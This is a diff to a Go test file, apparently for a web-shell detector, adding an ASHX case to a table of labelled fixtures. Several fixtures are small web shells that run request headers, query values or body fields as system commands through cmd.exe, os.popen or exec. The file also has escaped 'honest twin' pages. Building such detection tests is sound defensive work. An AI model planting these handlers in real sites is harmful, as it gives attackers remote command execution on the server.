@@ -95,6 +95,7 @@ func TestShapesDet18WebShell(t *testing.T) {
 		{"aspx: a header into Process.Start", "web/ping.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start(\"cmd.exe\", \"/c \" + Request.Headers[\"X-Run\"]); }\n</script>\n", High},
 		{"python flask: os.popen of a query value", "app/server.py", "from flask import Flask, request\nimport os\napp = Flask(__name__)\n@app.route('/diag')\ndef diag():\n    return os.popen(request.args.get('q', 'id')).read()\n", High},
 		{"node express: exec of a body field", "server/index.js", "const { exec } = require('child_process');\nconst app = require('express')();\napp.post('/run', (req, res) => exec(req.body.cmd, (e, o) => res.send(o)));\n", High},
+		{"ashx: a header through a name into ProcessStartInfo", "site/health.ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext ctx) {\n    var d = ctx.Request.Headers[\"X-Diag\"];\n    var psi = new ProcessStartInfo(\"cmd.exe\", \"/c \" + d);\n  }\n}\n", High},
 		// Honest twins.
 		{"twin php: a health page with no request value run", "public/health.php", "<?php\nhttp_response_code(200);\necho json_encode(['status' => 'ok', 'time' => time(), 'q' => $_GET['q'] ?? '']);\n", None},
 		{"twin php: ping with the host escaped", "public/ping.php", "<?php\n$h = $_GET['host'];\nsystem('ping -c1 ' . escapeshellarg($h));\n", None},
